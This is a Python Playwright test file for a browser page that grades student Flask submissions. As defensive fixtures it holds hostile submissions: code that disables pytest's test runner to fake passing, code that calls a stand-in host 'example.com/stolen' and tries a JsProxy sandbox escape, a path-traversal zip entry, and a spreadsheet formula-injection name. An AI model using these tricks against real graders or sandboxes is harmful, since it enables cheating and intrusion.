"""A class is graded in the page: as by the command, without a word to anybody, and 500 learners are no burden."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest
from click.testing import CliRunner
from playwright.sync_api import FilePayload, Locator, Page, Request, expect

from sandbox.classroom.assigning import to_toml
from sandbox.classroom.assignment import Assigned, Assignment, to_fragment
from sandbox.classroom.commands import classroom
from sandbox.edition import edition
from sandbox.lessons import load_lesson
from tests.classroom.made import packed
from tests.course import ROOT
from tests.site.test_accessibility import violations

pytestmark = pytest.mark.browser
BAKERY = load_lesson(ROOT, "start/first-app").playgrounds["bakery"]
assert BAKERY.exercise
STARTER = BAKERY.project.files["app.py"]
SOLUTION = BAKERY.exercise.solution["app.py"]
ASSIGNMENT = Assignment(
    "Week 1", (Assigned(BAKERY.id, edition(BAKERY), 5), Assigned("start/gone/away")), late=None, ask=("name",)
)
HOSTILE = """
import _pytest.python
_pytest.python.Function.runtest = lambda self: None
"""
OUTSIDE = """
import sys
import urllib.request
try:
    urllib.request.urlopen("https://example.com/stolen")
except OSError:
    pass
try:
    import js
    js.fetch("https://example.com/stolen")
except (ImportError, PermissionError):
    pass
proxies = [value for module in list(sys.modules.values()) for value in list(vars(module).values())]
for proxy in (value for value in proxies if type(value).__name__ == "JsProxy"):
    try:
        proxy.constructor.constructor("return fetch('https://example.com/stolen')")()
    except Exception:
        continue
    raise SystemExit("JavaScript was compiled")
"""
HIDDEN = '''from app import app


def test_closing():
    """The bakery closes at 15:00."""
    assert "15:00" in app.test_client().get("/hours").text
'''


def submission(name: str, app: str, **changes: Any) -> bytes:
    made = {
        "format": 1,
        "kind": "flaskroom-submission",
        "assignment": to_fragment(ASSIGNMENT),
        "learner": {"name": name},
        "made": "2026-11-01T10:00:00Z",
        "exercises": [
            {
                "name": BAKERY.id,
                "edition": edition(BAKERY),
                "files": {"app.py": hashlib.sha256(app.encode()).hexdigest()},
            }
        ],
        **changes,
    }
    return packed({"manifest.json": json.dumps(made), f"exercises/{BAKERY.id}/app.py": app})


def choose(page: Page, button: str, files: list[FilePayload] | Path) -> None:
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name=button).click()
    chooser.value.set_files(files)


def grade(page: Page, says: str = "Done:") -> None:
    page.get_by_role("button", name="Grade", exact=True).click()
    expect(page.locator("flask-grade > [role=status]")).to_contain_text(says)


def downloaded(page: Page, name: str) -> bytes:
    with page.expect_download() as coming:
        page.get_by_role("group", name="Downloads").get_by_role("button", name=name).click()
    return coming.value.path().read_bytes()


def row(page: Page, name: str) -> Locator:
    return page.get_by_role("row").filter(has=page.get_by_role("button", name=name, exact=True))


def by_command(folder: Path) -> dict[str, Any]:
    """What `flaskroom grade` makes of the same."""
    words = ["grade", str(folder / "in"), "--assignment", str(folder / "assignment.toml")]
    options = ["--hidden", str(folder / "mine"), "--out", str(folder / "out")]
    done = CliRunner().invoke(classroom, [*words, *options], catch_exceptions=False)
    assert done.exit_code == 0, done.output
    return plain((folder / "out" / "results.json").read_bytes())


def plain(results: bytes) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(results)
    assert data.pop("lines")[0].startswith("start/gone/away is not ")
    assert not data.pop("similar")  # none among two works; the page does not look for them
    return data


def test_as_by_the_command_and_nobody_hears_of_it(page: Page, site: str, tmp_path: Path) -> None:
    given = {
        "Ada_1_assignsubmission_file/ada.flaskroom.zip": submission("Ada", SOLUTION),
        "bob.flaskroom.zip": submission("=HYPERLINK(1)", STARTER),
        "old.flaskroom.zip": submission("Ada", STARTER, made="2026-10-01T10:00:00Z"),
        "eve.flaskroom.zip": submission('نور, "E" 🫖', SOLUTION + HOSTILE),
        "mal.flaskroom.zip": submission("Mal", STARTER + OUTSIDE),
        "words.txt": b"Dear teacher, my dog ...",
        "evil.flaskroom.zip": packed({"../../app.py": b""}),
    }
    for name, data in given.items():
        (tmp_path / "in" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "in" / name).write_bytes(data)
    (tmp_path / "assignment.toml").write_text(to_toml(ASSIGNMENT), "utf-8")
    own = tmp_path / "mine" / BAKERY.id
    own.mkdir(parents=True)
    (own / "test_mine.py").write_text(HIDDEN)
    (own / "weights.toml").write_text('[weights]\n"test_mine.py::test_closing" = 2\n')

    page.goto(site + "grade/")
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))
    grade(page, "The assignment is missing")
    choose(page, "Choose a folder", tmp_path / "in")
    expect(page.get_by_text("7 files of submissions")).to_be_visible()
    grade(page, "The assignment is missing")
    page.get_by_role("textbox", name="Link of the assignment").fill("https://example.com/#title=A")
    expect(page.get_by_text("no part “assignment=1”")).to_be_visible()
    toml = FilePayload(name="week1.toml", mimeType="", buffer=(tmp_path / "assignment.toml").read_bytes())
    essay = FilePayload(name="essay.docx", mimeType="", buffer=b"")
    choose(page, "Choose files", [toml, essay])
    expect(page.get_by_text("“Week 1”: 2 exercises, 5 points")).to_be_visible()
    expect(page.get_by_text("Left aside, since grading has no use for it: essay.docx.")).to_be_visible()
    page.get_by_text("Hidden checks, and more").click()
    choose(page, "Choose the folder of hidden checks", tmp_path / "mine")
    expect(page.get_by_text("2 files of hidden checks")).to_be_visible()
    page.get_by_role("spinbutton", name="Runs at a time").fill("2")
    grade(page)
    assert plain(downloaded(page, "results.json")) == by_command(tmp_path)
    expect(row(page, "Ada")).to_contain_text("5")
    expect(page.get_by_text("start/gone/away is not on this site")).to_be_visible()
    others = page.get_by_role("region", name="Files that are not graded").get_by_role("listitem")
    expect(others).to_have_count(3)
    expect(others.filter(has_text="evil.flaskroom.zip")).to_contain_text("which leads out of it")
    assert violations(page) == []

    row(page, "=HYPERLINK(1)").get_by_role("button").click()
    learner = page.get_by_role("dialog", name="=HYPERLINK(1)")
    expect(learner.get_by_text("Failed: The bakery closes at 15:00. (hidden)")).to_be_visible()
    learner.get_by_text("app.py (as it was at the beginning)").click()
    expect(learner.get_by_text("Add the page /hours here.")).to_be_visible()
    learner.get_by_role("spinbutton", name="Points by hand").fill("2.5")
    learner.get_by_role("textbox", name="Comment", exact=True).fill("Half a loaf.")
    learner.get_by_role("textbox", name="Comment on the whole").focus()
    expect(learner.get_by_text("2.5 of 5 points")).to_be_visible()
    expect(learner.get_by_text("Kept.")).to_be_visible()
    assert violations(page, "dialog") == []
    learner.get_by_role("button", name="Next learner").click()
    ada = page.get_by_role("dialog", name="Ada")
    expect(ada.get_by_role("listitem").filter(has_text="Counts, of 2 from this learner")).to_be_visible()
    changed = ada.get_by_role("group", name="What was changed in app.py")
    expect(changed.get_by_role("insertion").filter(has_text='@app.route("/hours")')).to_be_visible()
    assert violations(page, "dialog") == []
    ada.get_by_role("textbox", name="Comment on the whole").fill("Well baked.")
    page.keyboard.press("Escape")
    expect(page.get_by_role("button", name="Ada")).to_be_focused()
    rows = {
        row["name"]: row for row in csv.DictReader(io.StringIO(downloaded(page, "gradebook.csv").decode("utf-8-sig")))
    }
    assert {name: row["points"] for name, row in rows.items()} == {
        "Ada": "5.0",
        "'=HYPERLINK(1)": "2.5",
        'نور, "E" 🫖': "0.0",
        "Mal": "1.0",
    }
    assert "Function.runtest" in rows['نور, "E" 🫖']["notes"]
    with ZipFile(io.BytesIO(downloaded(page, "All files"))) as archive:
        moodle = archive.read("graded/moodle.csv").decode()
        assert "Half a loaf." in moodle and "Well baked." in moodle
        assert "Week 1" in archive.read("graded/pages/index.html").decode()

    page.set_viewport_size({"width": 390, "height": 800})
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert violations(page) == []
    assert {request.method for request in asked} == {"GET"}
    assert all(request.url.startswith((site, "blob:", "data:", "about:")) for request in asked)

    page.reload()
    choose(page, "Choose a folder", tmp_path / "in")
    choose(page, "Choose files", [toml])
    page.get_by_text("Hidden checks, and more").click()
    choose(page, "Choose the folder of hidden checks", tmp_path / "mine")
    grade(page, "Done: 4 learners.")
    expect(row(page, "=HYPERLINK(1)")).to_contain_text("2.5")
    assert json.loads(downloaded(page, "results.json"))["learners"][0]["comment"] == ""
    page.get_by_role("button", name="Forget what is kept").click()
    expect(page.get_by_text("Forgotten:")).to_be_visible()
    expect(page.get_by_role("table")).to_have_count(0)


def test_five_hundred_stop_and_go_on(page: Page, site: str) -> None:
    assignment = Assignment("Week 1", (Assigned(BAKERY.id, edition(BAKERY), 5),))
    page.goto(site + "grade/")
    page.get_by_role("textbox", name="Link of the assignment").fill("#" + to_fragment(assignment))
    entries: Mapping[str, bytes] = {
        f"{number}_late_{number}.flaskroom.zip": submission(f"Learner {number}", STARTER) for number in range(500)
    }
    own = FilePayload(name="zoe.flaskroom.zip", mimeType="", buffer=submission("Zoë", STARTER + "\nwhile True: pass\n"))
    pile = packed(entries)
    choose(page, "Choose files", [own])
    bytes_ = base64.b64encode(pile).decode()
    dropped = page.evaluate_handle(
        """(text) => {
            const data = new DataTransfer();
            data.items.add(new File([Uint8Array.from(atob(text), (one) => one.charCodeAt(0))], "submissions.zip"));
            return data;
        }""",
        bytes_,
    )
    page.dispatch_event("footer", "dragover", {"dataTransfer": dropped})
    page.dispatch_event("footer", "drop", {"dataTransfer": dropped})
    expect(page.get_by_text("2 files of submissions")).to_be_visible()
    page.get_by_role("button", name="Grade", exact=True).click()
    expect(row(page, "Learner 0")).to_contain_text("1.67")
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_text("Stopped. What was graded is kept")).to_be_visible()
    expect(page.get_by_text("501 learners")).to_be_visible()
    assert "the grading was stopped before" in downloaded(page, "gradebook.csv").decode()
    expect(page.get_by_text("1 learner in it not graded whole, as the notes say.")).to_be_visible()

    assert page.get_by_role("row").count() == 51
    page.get_by_role("button", name="Next rows").click()
    expect(page.get_by_text("51 to 100 of 501")).to_be_visible()
    expect(page.get_by_role("button", name="Next rows")).to_be_focused()
    assert page.get_by_role("row").count() == 51
    heads = page.get_by_role("columnheader")
    heads.filter(has_text="Name").get_by_role("button").click()
    expect(heads.filter(has_text="Name")).to_have_attribute("aria-sort", "descending")
    page.get_by_role("searchbox", name="Search learners").fill("learner 49")
    expect(page.get_by_text("15 of 501 learners")).to_be_visible()
    expect(page.get_by_role("row").nth(1)).to_contain_text("Learner 499")
    page.get_by_role("searchbox", name="Search learners").fill("")

    page.get_by_text("Hidden checks, and more").click()
    page.get_by_role("spinbutton", name="Seconds for one run").fill("")
    grade(page, "Seconds for one run: a whole number from 1 to 600.")
    page.get_by_role("spinbutton", name="Seconds for one run").fill("8")
    grade(page, "Done: 501 learners.")
    page.get_by_role("searchbox", name="Search learners").fill("zoë")
    row(page, "Zoë").get_by_role("button").click()
    expect(page.get_by_role("dialog").get_by_text("The app did not end within 8 seconds.").first).to_be_visible()
